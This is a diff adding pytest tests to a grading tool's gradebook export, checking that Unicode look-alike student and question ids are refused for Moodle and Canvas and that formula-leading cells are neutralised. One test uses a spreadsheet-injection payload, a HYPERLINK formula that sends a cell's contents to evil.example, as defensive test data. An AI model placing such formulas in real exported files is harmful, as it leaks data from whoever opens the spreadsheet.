@@ -396,3 +396,121 @@ def test_unusable_web_grades_are_counted(graded: Path) -> None:
     _, err = cli("gradebook", str(graded))
     assert ("left out: 2 web grade not a number (teach/2/cleo, teach/2/eva); 1 web grade out of range "
             "(teach/3/finn)") in " ".join(err.split())
+
+
+# -- issue 49: ids as the LMS's collation compares them, formula look-alikes ------------------------------------
+
+#: two ids that MySQL's utf8mb4_unicode_ci (Moodle's recommended collation) reads as one, and so does Canvas
+UNICODE_TWINS = [("zo\u00e9", "zoe\u0301"),  # NFC and NFD
+                 ("alice", "\uff41lice"),  # fullwidth
+                 ("IX7", "\u21687"),  # the Roman numeral nine
+                 ("bob", "\U0001d41b\U0001d428\U0001d41b"),  # mathematical bold
+                 ("a1", "\u24d01"),  # circled
+                 ("dave", "dave\u00a0"),  # a trailing NBSP
+                 ("erin", "\u200berin\ufeff"),  # ZWSP and BOM
+                 ("STRASSE", "stra\u00dfe")]  # case folding
+
+
+@pytest.mark.parametrize("pair", UNICODE_TWINS, ids=[ascii(p[1]) for p in UNICODE_TWINS])
+def test_ids_equal_to_the_lms_collation_are_refused(pair: tuple[str, str], tmp_path: Path) -> None:
+    """Each pair was written as two students in the Moodle and Canvas layouts; the LMS has one user for both."""
+    db = exam_store(tmp_path, list(pair))
+    for fmt in ("moodle", "canvas"):
+        out, err = cli("gradebook", str(db), "--format", fmt, code=2)
+        line = one_error(err)
+        assert out == "" and all(repr(s) in line for s in pair) and "ignores case" in line, line
+    assert len(parse_plain(cli("gradebook", str(db))[0])) == 2  # the plain layout is no import
+
+
+def test_accents_are_folded_for_moodle_only(tmp_path: Path) -> None:
+    """utf8mb4_unicode_ci equates ``jose`` and ``josé`` (Moodle); Canvas's PostgreSQL lookups do not."""
+    db = exam_store(tmp_path, ["jose", "jos\u00e9"])
+    line = one_error(cli("gradebook", str(db), "--format", "moodle", code=2)[1])
+    assert "'jose'" in line and "'jos\u00e9'" in line and "accents" in line
+    _, _, students = read_canvas(cli("gradebook", str(db), "--format", "canvas")[0])
+    assert sorted(k for k, _ in students) == ["jose", "jos\u00e9"]
+
+
+def test_question_ids_equal_to_the_lms_are_refused(tmp_path: Path) -> None:
+    rows: list[dict[str, object]] = [{"type": "question", "id": q, "text": "What does DNS do?", "max_points": 2}
+                                     for q in ("Q1", "\uff31\uff11")]
+    rows += [{"type": "answer", "id": f"a{i}", "question_id": q, "examinee": "ada", "text": "It maps names.",
+              "human_score": 1} for i, q in enumerate(("Q1", "\uff31\uff11"))]
+    (tmp_path / "exam.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+    db = tmp_path / "g.db"
+    cli("grade", str(tmp_path / "exam.jsonl"), "--judge", "scripted", "--out", str(db), "--json", "--quiet")
+    for fmt in ("moodle", "canvas"):
+        line = one_error(cli("gradebook", str(db), "--format", fmt, code=2)[1])
+        assert "'Q1'" in line and "'\uff31\uff11'" in line and "same grade item" in line, line
+
+
+FORMULA_LOOK_ALIKES = [" =1+1", "\u00a0=1+1", "\x0b=1+1", "\x0c=1+1", "\n=1+1", "\ufeff=1+1", "\u200b=1+1",
+                       "\uff1dSUM(A1)", "\ufe661+1", "\u207c1+1", "\uff0b1", "\uff20SUM(A1)", "\u22121",
+                       "\uff0d1", "\u3000=1"]
+
+
+@pytest.mark.parametrize("sid", FORMULA_LOOK_ALIKES, ids=[ascii(s) for s in FORMULA_LOOK_ALIKES])
+def test_formula_look_alikes_neutralised_in_plain_refused_for_an_lms(sid: str, tmp_path: Path) -> None:
+    """A formula character after blanks or invisible characters, or a fullwidth or small form of = + - @, was
+    written as it is in every layout."""
+    from knockout.reports._gradebook import formula_lead
+
+    assert formula_lead(sid) is not None
+    db = exam_store(tmp_path, ["ada", sid])
+    rows = list(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))
+    assert "'" + sid in [r[0] for r in rows[1:]]
+    for fmt in ("moodle", "canvas"):
+        out, err = cli("gradebook", str(db), "--format", fmt, code=2)
+        line = one_error(err)
+        assert out == "" and "formula" in line, line
+
+
+@pytest.mark.parametrize("question", [" =1+1", "\uff1dSUM(A1)"])
+def test_formula_look_alike_question_ids(question: str, tmp_path: Path) -> None:
+    db = exam_store(tmp_path, ["ada", "ben"], question=question)
+    head = next(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))
+    assert head[1] == "'" + question
+    for fmt in ("moodle", "canvas"):
+        line = one_error(cli("gradebook", str(db), "--format", fmt, code=2)[1])
+        assert "question" in line and "formula" in line, line
+
+
+def test_ordinary_ids_are_not_formulas() -> None:
+    from knockout.reports._gradebook import formula_lead, lms_key, neutralise
+
+    for cell in ("ada", "jos\u00e9", "\u00e9=1", "a=1", "1-2", "", " ", "\u200b"):
+        assert formula_lead(cell) is None and neutralise(cell) == cell
+    assert lms_key(" Zo\u00e9\u00a0") == lms_key("zoe\u0301") == "zo\u00e9"
+    assert lms_key("Jos\u00e9", fold_accents=True) == "jose"
+
+
+def test_export_csv_neutralises_as_the_gradebook_does(tmp_path: Path) -> None:
+    """``knockout export --format csv`` wrote a formula-leading id raw where the gradebook neutralised it; both
+    now go through the one function."""
+    from knockout.reports import _export, _gradebook
+
+    assert _export.neutralise is _gradebook.neutralise
+    question = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    db = exam_store(tmp_path, ["ada", "\uff20ben"], question=question)
+    rows = list(csv.DictReader(io.StringIO(cli("export", str(db), "--format", "csv")[0], newline="")))
+    assert {r["question_id"] for r in rows} == {"'" + question}
+    tidy = list(csv.DictReader(io.StringIO(cli("export", str(db), "--table", "answers", "--format", "csv")[0],
+                                           newline="")))
+    assert all(not c.startswith(("=", "+", "-", "@", "\uff20")) for r in tidy for c in r.values()), tidy
+    jsonl = cli("export", str(db), "--format", "jsonl")[0]
+    assert {json.loads(x)["question_id"] for x in jsonl.splitlines()} == {question}  # JSON is no spreadsheet
+
+
+@pytest.mark.parametrize("value", [["a@x.org", "b@x.org"], {"work": "a@x.org"}, 1.5, True])
+def test_an_id_column_that_is_not_a_text_is_refused(value: object, tmp_path: Path) -> None:
+    """``meta.email`` given as a list or an object was written as its Python spelling (``['a@x.org', ...]``)."""
+    rows: list[dict[str, object]] = [{"type": "question", "id": "q1", "text": "What does DNS do?", "max_points": 2}]
+    rows += [{"type": "answer", "id": f"a{i}", "question_id": "q1", "examinee": f"e{i}", "text": "It maps names.",
+              "human_score": 1, "meta": {"email": v}} for i, v in enumerate(["c@x.org", value])]
+    (tmp_path / "exam.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+    db = tmp_path / "g.db"
+    cli("grade", str(tmp_path / "exam.jsonl"), "--judge", "scripted", "--out", str(db), "--json", "--quiet")
+    for fmt in ("csv", "moodle"):
+        out, err = cli("gradebook", str(db), "--format", fmt, "--id-column", "email", code=2)
+        line = one_error(err)
+        assert out == "" and "exam.jsonl" in line and "a1" in line and "meta.email" in line, line
